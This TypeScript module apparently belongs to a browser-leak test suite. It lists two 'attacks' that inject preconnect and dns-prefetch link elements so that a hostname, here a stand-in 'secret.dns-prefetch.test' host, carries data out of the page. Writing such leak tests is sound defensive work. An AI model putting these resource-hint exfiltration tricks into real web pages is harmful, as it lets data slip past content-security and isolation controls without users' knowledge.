import type { Attack } from '../attack';

/** Lists attacks that make the browser prepare for a page, so that a name or an address carries something away. */
export const HINTS: readonly Attack[] = [
  {
    name: 'preconnect',
    run: ({ connectOrigin }) =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'preconnect', href: connectOrigin }),
      ),
  },
  {
    name: 'dns-prefetch',
    run: () =>
      document.head.append(
        Object.assign(document.createElement('link'), {
          rel: 'dns-prefetch',
          href: 'http://secret.dns-prefetch.test/',
        }),
      ),
  },
];
